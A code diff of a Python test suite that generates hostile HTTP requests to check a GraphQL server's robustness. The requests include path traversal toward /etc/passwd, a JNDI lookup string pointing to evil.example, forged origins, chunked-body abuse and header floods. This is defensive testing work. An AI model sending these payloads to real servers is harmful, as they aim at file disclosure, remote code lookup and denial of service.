@@ -6,8 +6,8 @@ from collections.abc import Iterator
 from itertools import product
 from urllib.parse import quote
 
-from tests.tools.hostile.attack import Act, Expected, Hostile, hostile, raw, shaking_hands
-from tests.tools.wire import SOCKET, asking, head, post
+from tests.tools.hostile.attack import ANSWER, Expected, Hostile, Steps, hostile
+from tests.tools.wire import CLOSE, SOCKET, asking, head, post
 
 __all__ = ["requests"]
 
@@ -18,7 +18,7 @@ CHUNKED = head(**JSON | {"Transfer-Encoding": "chunked"})
 CHUNK = b"%x\r\n%s\r\n" % (len(HELLO), HELLO)
 
 NO_REQUESTS = (
-    *(b"", b" ", b"null", b"1", b'"x"', b"[]", b"[null]", b"{}", b"{", b"[", b"NaN", bytes(10_000)),
+    *(b"", b"null", b"1", b'"x"', b"[]", b"[null]", b"{}", b"{", b"NaN", bytes(10_000)),
     *(b"[" * 999_000, b'{"a":' * 190_000),
 )
 """Bodies of no GraphQL request."""
@@ -42,13 +42,11 @@ UNCLEAR = {
     "a length with a plus": [f"Content-Length: +{SIZE}"],
     "a negative length": ["Content-Length: -1"],
     "a length in hexadecimal": ["Content-Length: 0x1f"],
-    "a length with an underscore": ["Content-Length: 3_1"],
     "a length that is no number": ["Content-Length: many"],
     "a length beyond all numbers": ["Content-Length: " + "9" * 40],
     "a folded header": ["X-A: 1", " Transfer-Encoding: chunked"],
     "a header without a name": [": x"],
     "a header without a colon": ["nonsense"],
-    "a header with a zero in it": ["X-A: a\x00b"],
     "a header with a bare return in it": ["X-A: a\rX-B: b"],
     "a space in a header's name": ["X A: 1"],
 }
@@ -57,23 +55,19 @@ CHUNKS = {
     "that is longer than it says": b"1\r\nabc\r\n0\r\n\r\n",
     "of a negative size": b"-1\r\na\r\n0\r\n\r\n",
     "beyond all numbers": b"f" * 40 + b"\r\na",
-    "without an end": b"5\r\n{    ",
-    "with a long extension": b"1;" + b"a" * 100_000 + b"\r\n",
     "whose size never ends": b"0" * 200_000,
     "again and again, and no JSON": b"1\r\n \r\n" * 100_000 + b"0\r\n\r\n",
 }
 """Chunked bodies that are wrong."""
-METHODS = (
-    *("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "HEAD", "PRI", "PROPFIND", "get", "GETT", "\x00"),
-    "A" * 100_000,
-)
+METHODS = ("PUT", "OPTIONS", "TRACE", "CONNECT", "HEAD", "PRI", "PROPFIND", "get", "GETT", "\x00", "A" * 100_000)
 PATHS = (
     *("*", "", "//", "graphql", "http://", "http://evil.example/graphql", "localhost:80", "/%", "/%zz", "/%00"),
     *("/%ff%fe", "/\xff", "/;/", "/#", "/?", "/a b", "/" + "a" * 10_000, "/" + "%41" * 3_000),
     *("/graphql/", "/graphql/../graphql", "/graphql?" + "a=1&" * 3_000, "/graphql?query=" + quote("{" * 3_000)),
     *("/graphql?query=%ff", "/graphql?query=%00", "/graphql?variables=%7B", "/graphql?query=a&query=b"),
 )
-DOTS = ("..", "%2e%2e", ".%2e", "%252e%252e", "..%00", "....", "..;", "\xc0\xae\xc0\xae")
+DOTS = ("..", "%2e%2e", "%252e%252e", "..%00", "..;", "\xc0\xae\xc0\xae")
+DOTTED = ["/assets/" + slash.join([dots] * 6 + ["etc", "passwd"]) for dots, slash in product(DOTS, ("/", "%2f", "\\"))]
 NO_FILES = (
     *("/assets", "/assets/", "/assets//etc/passwd", "/assets/\x00", "/assets/%00", "/assets/C:/x", "/assets/con"),
     *("/assets/" + "a/" * 2_000, "/assets/" + "a" * 5_000, "/assets/./././", "/favicon.svg/.."),
@@ -88,14 +82,13 @@ ORIGINS = (
     *("null", "http://evil.example", "http://localhost.evil.example", "http://evil.example@localhost", "", "localhost"),
     *("http://localhost:1", "file://", "x" * 10_000),
 )
-FLOODS = ((100, 10), (1_000, 10), (5_000, 10), (1, 10_000), (1, 100_000), (1, 5_000_000), (100_000, 1))
+FLOODS = ((100, 10), (5_000, 10), (1, 10_000), (1, 5_000_000), (100_000, 1))
 """Of headers: how many, and how long."""
 OTHERS = {
     "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
     "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(100),
     "SSH": b"SSH-2.0-OpenSSH_9.9\r\n",
     "SMB": b"\x00\x00\x00\x85\xffSMBr" + bytes(100),
-    "Redis": b"*1\r\n$4\r\nINFO\r\n",
     "zeros": bytes(1_000),
     "a proxy's greeting": b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\nGET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
     "a log's bait": head("GET", "/${jndi:ldap://evil.example/a}", User_Agent="${jndi:ldap://x}"),
@@ -118,66 +111,41 @@ ENCODED = {
 
 def requests(header_bytes: int, message_bytes: int) -> Iterator[Hostile]:
     """All of them, for a server that takes heads and bodies of so many bytes."""
-    yield from hostile("request", Expected.REFUSED, ((name, raw(it)) for name, it in _refused(message_bytes)))
-    yield from hostile("request", Expected.ANSWERED, ((name, raw(it)) for name, it in _odd()))
-    yield from hostile("pipeline", Expected.ANYTHING, ((name, raw(it)) for name, it in _pipelined()))
-    yield from hostile("request", Expected.REFUSED, _from_elsewhere())
+    beginning = head(**JSON).removesuffix(b"\r\n")
+    refused = {
+        **{f"body {number}: {body[:40]!r}": post(body) for number, body in enumerate(NO_REQUESTS)},
+        "a body one byte too long": post(b" " * (message_bytes + 1)),
+        "a body three times too long": post(b" " * (3 * message_bytes)),
+        **{name: beginning + "\r\n".join([*it, "", ""]).encode("latin-1") + HELLO for name, it in UNCLEAR.items()},
+        **{f"a chunk {name}": CHUNKED + body for name, body in CHUNKS.items()},
+        **{f"a body in {encoding}": post(body, Content_Encoding=encoding) for encoding, body in ENCODED.items()},
+        **{f"a body of the type {type[:40]!r}": post(HELLO, type) for type in TYPES},
+        **{f"the file {path[:40]!r}": head("GET", path) for path in (*DOTTED, *NO_FILES)},
+        **{f"the host {host and host[:30]!r}": head("GET", "/graphql?query={a}", host=host) for host in HOSTS},
+        **{f"the origin {origin[:30]!r}": post(HELLO, Origin=origin) for origin in ORIGINS},
+    }
+    odd = {
+        **{f"the body {name}": post(body) for name, body in ODD_BODIES.items()},
+        **{f"the method {method[:10]!r}": head(method) for method in METHODS},
+        **{f"the path {path[:30]!r}": head("GET", path) for path in PATHS},
+        **OTHERS,
+        **{f"the accept {accept[:20]!r} of {len(accept)}": post(HELLO, Accept=accept) for accept in ACCEPTED},
+        "trailers without end": CHUNKED + CHUNK + b"0\r\n" + b"X-A: 1\r\n" * 400_000,
+        "a trailer of an origin": CHUNKED + CHUNK + b"0\r\nOrigin: http://evil.example\r\n\r\n",
+        "ranges of a file": head("GET", "/", Range="bytes=" + ",".join(f"{n}-{n}" for n in range(1_500))),
+        "a range that is none": head("GET", "/", Range="bytes=9-1"),
+    }
+    # A refusal closes the connection, whether earlier requests on it are answered or not.
+    keeping = head("GET", "/healthz", Connection="keep-alive")
+    pipelined = {
+        "a thousand requests at once": keeping * 1_000 + head("GET", "/healthz"),
+        "a request and then nonsense": keeping + b"\x00nonsense\r\n\r\n",
+    }
+    for expected, family in ((Expected.REFUSED, refused), (Expected.ANSWERED, odd), (Expected.ANYTHING, pipelined)):
+        yield from hostile("request", expected, {name: [text] for name, text in family.items()})
     for many, length in FLOODS:
         flood = b"".join(b"X-%d: %s\r\n" % (n, b"a" * length) for n in range(many))
         expected = Expected.ANSWERED if len(flood) < header_bytes - 1_000 else Expected.REFUSED
         for name, request in {"request": post(HELLO), "handshake": head("GET", **SOCKET)}.items():
-            flooded = shaking_hands(request.replace(b"\r\n", b"\r\n" + flood, 1))
+            flooded: Steps = [request.replace(b"\r\n", b"\r\n" + flood, 1), ANSWER, CLOSE]
             yield Hostile(f"{name}: {many} headers of {length} letters", flooded, expected)
-
-
-def _refused(message_bytes: int) -> Iterator[tuple[str, bytes]]:
-    for number, body in enumerate(NO_REQUESTS):
-        yield f"body {number}: {body[:40]!r}", post(body)
-    yield "a body one byte too long", post(b" " * (message_bytes + 1))
-    yield "a body three times too long", post(b" " * (3 * message_bytes))
-    for name, lines in UNCLEAR.items():
-        request = head(**JSON).removesuffix(b"\r\n") + "\r\n".join([*lines, "", ""]).encode("latin-1")
-        yield name, request + HELLO
-    for name, body in CHUNKS.items():
-        yield f"a chunk {name}", CHUNKED + body
-    for encoding, body in ENCODED.items():
-        yield f"a body in {encoding}", post(body, Content_Encoding=encoding)
-    for dots, slash in product(DOTS, ("/", "%2f", "\\", "%5c")):
-        path = "/assets/" + slash.join([dots] * 6 + ["etc", "passwd"])
-        yield f"the file {path[:40]!r}", head("GET", path)
-    for path in NO_FILES:
-        yield f"the file {path[:30]!r}", head("GET", path)
-    for type in TYPES:
-        yield f"a body of the type {type[:40]!r}", post(HELLO, type)
-
-
-def _odd() -> Iterator[tuple[str, bytes]]:
-    for name, body in ODD_BODIES.items():
-        yield f"the body {name}", post(body)
-    for method in METHODS:
-        yield f"the method {method[:10]!r}", head(method)
-    for path in PATHS:
-        yield f"the path {path[:30]!r}", head("GET", path)
-    for name, text in OTHERS.items():
-        yield name, text
-    for accept in ACCEPTED:
-        yield f"the accept {accept[:20]!r} of {len(accept)}", post(HELLO, Accept=accept)
-    yield "trailers without end", CHUNKED + CHUNK + b"0\r\n" + b"X-A: 1\r\n" * 400_000
-    yield "a trailer of an origin", CHUNKED + CHUNK + b"0\r\nOrigin: http://evil.example\r\n\r\n"
-    yield "ranges of a file", head("GET", "/", Range="bytes=" + ",".join(f"{n}-{n}" for n in range(1_500)))
-    yield "a range that is none", head("GET", "/", Range="bytes=9-1")
-
-
-def _pipelined() -> Iterator[tuple[str, bytes]]:
-    """A refusal closes the connection, whether earlier requests on it are answered or not."""
-    keeping = head("GET", "/healthz", Connection="keep-alive")
-    yield "a thousand requests at once", keeping * 1_000 + head("GET", "/healthz")
-    yield "a request and then nonsense", keeping + b"\x00nonsense\r\n\r\n"
-
-
-def _from_elsewhere() -> Iterator[tuple[str, Act]]:
-    for host in HOSTS:
-        yield f"the host {host and host[:30]!r}", raw(head("GET", "/graphql?query={__typename}", host=host))
-    for origin in ORIGINS:
-        yield f"the origin {origin[:30]!r}", raw(post(HELLO, Origin=origin))
-        yield f"a handshake of the origin {origin[:30]!r}", shaking_hands(head("GET", Origin=origin, **SOCKET))
